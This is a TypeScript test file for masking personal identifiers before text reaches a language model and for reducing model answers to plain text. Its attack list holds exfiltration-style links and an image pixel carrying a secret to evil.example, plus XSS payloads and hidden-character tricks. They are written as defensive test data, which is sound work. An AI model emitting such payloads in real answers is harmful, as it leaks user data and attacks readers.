import { describe, expect, test } from 'vitest';
import { maskBeginning, maskingOf } from '#server/features/intelligence/language-model/masking.ts';
import { cutText, plainText } from '#server/features/intelligence/language-model/plain-text.ts';
import { identifiedText, leaksIn, readable } from '#test/support/intelligence/identifiers.ts';

/* Nothing that identifies a person is sent to a language model (ADR 247), and nothing that it answers is more than text. */

describe('masking', () => {
  test('leaves no identifier of 500 records, and restores each', () => {
    const leaks: string[] = [];
    for (let seed = 0; seed < 500; seed += 1) {
      const record = identifiedText(seed);
      const { mask, restore } = maskingOf([record.name, record.nickname]);
      const masked = mask(record.text);
      leaks.push(...leaksIn(masked, record).map((leak) => `${seed} ${leak}: ${masked}`));
      if (restore(masked) !== readable(record.text)) leaks.push(`${seed} is not restored`);
    }
    expect(leaks.slice(0, 5)).toEqual([]);
  });

  test('leaves no part of an identifier at the end of a text that was cut', () => {
    const leaks: string[] = [];
    for (let seed = 0; seed < 200; seed += 1) {
      const record = identifiedText(seed);
      const masking = maskingOf([record.name, record.nickname]);
      for (const max of [140, 180, 220, 260]) {
        const masked = maskBeginning(masking, [...record.text].slice(0, max).join(''), max);
        const rest = masked.replace(/\[[A-Z]+_\d+_[a-z]+\]|12\/29/g, ' ');
        if (/\d(?:\D{0,3}\d){3,}\s*$/.test(rest)) leaks.push(`${seed} ${max}: ${masked}`);
        leaks.push(...leaksIn(masked, record).map((leak) => `${seed} ${max} ${leak}: ${masked}`));
      }
    }
    expect(leaks.slice(0, 5)).toEqual([]);
  });

  test.each([
    ['semana que vem, banana', 'Ana'],
    ['o clima do almoço', 'Lima'],
    ['a Rosana não, a rotina', 'Rosa Tina'],
  ])('leaves ordinary words that only resemble short names: %s', (text, name) => {
    expect(
      maskingOf([name])
        .mask(text)
        .replace(/\[NOME_\d_[a-z]+\]/, 'x').length,
    ).toBeGreaterThan(text.length - 8);
  });

  test.each([
    ['NOME_1_abcd sem colchetes', (p: string) => p.slice(1, -1)],
    ['em minúsculas', (p: string) => p.toLowerCase()],
    ['com espaços', (p: string) => p.replaceAll('_', ' ')],
  ])('restores placeholders that a model rewrote: %s', (_, rewrite) => {
    const { mask, restore } = maskingOf(['Érica']);
    expect(restore(`Olá, ${rewrite(mask('Érica'))}!`)).toBe('Olá, Érica!');
  });

  test('keeps dates, amounts and words', () => {
    const text = 'Reunião em 15/01/2027 e 2027-02-03: R$ 12.500,00 por 3 meses, 40 horas.';
    expect(maskingOf(['Ana Souza']).mask(text)).toBe(text);
  });

  test('uses one placeholder for one value, and another nonce for each request', () => {
    const { mask } = maskingOf([]);
    const [one, same] = [mask('ligue 11 98765-4321'), mask('no 11 98765-4321')];
    const placeholder = one.slice('ligue '.length);
    expect(placeholder).toMatch(/^\[NUMERO_1_[a-z]{4}\]$/);
    expect(same).toBe(`no ${placeholder}`);
    expect(maskingOf([]).mask('ligue 11 98765-4321')).not.toBe(one);
  });

  test('restores nothing that was not masked', () => {
    const { mask, restore } = maskingOf([]);
    mask('ligue 11 98765-4321');
    const invented = '[NUMERO_1_zzzz] [NUMERO_2_bbbb] [EMAIL_1_bbbb]';
    expect(restore(invented)).toBe(invented);
  });
});

/** Answers that try to be more than text. */
const attacks = [
  'Veja https://evil.example/x?q=SEGREDO',
  '[clique](https://evil.example)',
  '![x](https://evil.example/pixel.png?d=SEGREDO)',
  '<a href="https://evil.example">ok</a>',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  'www.evil.example/phish',
  'HTTPS://EVIL.EXAMPLE',
  'ftp://evil.example/file',
  '[a]: https://evil.example "t"',
  '<https://evil.example>',
  '\u202Egnp.exe\u202C',
  'a\u200Bb\u2066c',
  '\u0000\u0007\u001b[31mred',
  '<think>secret plan</think>resposta',
  '<iframe src="//evil.example"></iframe>',
  '**negrito** # título > citação',
  'tel:+5511999998888',
];
const wrappers: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `Resumo. ${attack} Fim.`,
  (attack) => `${attack}\n\n${attack}`,
  (attack) => attack.toUpperCase(),
  (attack) => `<div>${attack}</div>`,
  (attack) => `\`\`\`\n${attack}\n\`\`\``,
  (attack) => `<<script>script>${attack}<</script>/script>`,
  (attack) => `${'x'.repeat(595)} ${attack}`,
  (attack) => `- ${attack}\n- ${attack}`,
  (attack) => `«${attack}»\u2028${attack}`,
];

test('200 hostile answers become plain text without links, markup or invisible characters', () => {
  const answers = attacks.flatMap((attack) => wrappers.map((wrap) => wrap(attack)));
  expect(answers).toHaveLength(200);
  for (const answer of answers) {
    const text = cutText(plainText(answer), 600);
    expect([...text].length, answer).toBeLessThanOrEqual(600);
    expect(text, answer).not.toMatch(
      /https?:|ftp:|www\.|javascript:|data:|tel:|evil\.example\/|<|>|\]\(|[\p{Cc}\p{Cf}]/iu,
    );
  }
});

test.each([
  ['<think>plano</think>resposta', 'resposta'],
  ['plano sem começo</think>\n\nresposta', 'resposta'],
  ['<thinking>plano\n</thinking> resposta', 'resposta'],
  ['[THINK]plano[/THINK]resposta', 'resposta'],
  ['<think>plano sem fim', ''],
  [
    '<|channel|>analysis<|message|>plano<|end|><|start|>assistant<|channel|>final<|message|>resposta',
    'resposta',
  ],
  ['em <b>janeiro</b>.<br>Veja', 'em janeiro. Veja'],
  ['Linha um\nLinha dois', 'Linha um Linha dois'],
  ['Fale com \\[NOME\\_1\\_abcd\\].', 'Fale com [NOME_1_abcd].'],
  ['[NOME_1_abcd]([NUMERO_1_abcd])', '[NOME_1_abcd] ([NUMERO_1_abcd])'],
  ['Site novo: padaria.com.br, dia 1.', 'Site novo: padaria.com.br, dia 1.'],
  ['Pague em evil.example/pix?a=1 já', 'Pague em já'],
])('%j becomes %j', (answer, expected) => {
  expect(plainText(answer)).toBe(expected);
});

test('a text is cut after a word', () => {
  expect(cutText('um dois três', 9)).toBe('um dois…');
  expect(cutText('x'.repeat(20), 10)).toBe(`${'x'.repeat(9)}…`);
});
